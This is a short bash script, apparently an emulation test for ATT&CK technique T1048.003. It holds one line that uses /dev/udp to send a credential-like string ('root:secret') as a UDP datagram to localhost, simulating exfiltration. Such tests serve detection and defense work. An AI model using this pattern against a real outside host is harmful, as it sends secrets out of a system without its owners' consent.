#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# technique: T1048.003
. "$(dirname "$0")/common.bash"

# Data leave as a datagram.
bash -c 'printf "root:secret" >/dev/udp/127.0.0.1/49999'
